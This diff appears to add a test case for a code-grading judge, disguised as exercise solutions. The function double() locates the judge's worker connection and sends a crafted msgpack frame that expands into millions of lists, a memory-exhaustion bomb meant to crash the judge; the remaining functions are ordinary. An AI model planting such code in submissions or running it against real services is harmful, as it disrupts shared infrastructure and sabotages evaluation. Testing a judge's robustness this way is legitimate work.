@@ -1,0 +1,33 @@
+# tries: one byte a list: a message that takes seventy times its size where it is decoded
+# expects: crashed
+# open: items are counted after decoding: a frame of 32 MiB may hold empty lists that take 2.3 GiB in the judge
+
+# Exercise 1.1
+import gc
+import struct
+
+
+def _send(item, count):
+    body = b"\x83\xa4type\xa8Returned\xa5value" + b"\xdd" + struct.pack(">I", count) + item * count + b"\xa7changed\x90"
+    worker = next(thing for thing in gc.get_objects() if type(thing).__name__ == "Worker")
+    worker.connection.sendall(struct.pack("<I", len(body)) + body)
+
+
+def double(x):
+    _send(b"\x90", 12_000_000)
+
+
+# Exercise 2.1
+def total(values):
+    result = 0
+    for value in values:
+        result = result + value
+    return result
+
+
+def largest(values):
+    best = values[0]
+    for value in values:
+        if value > best:
+            best = value
+    return best
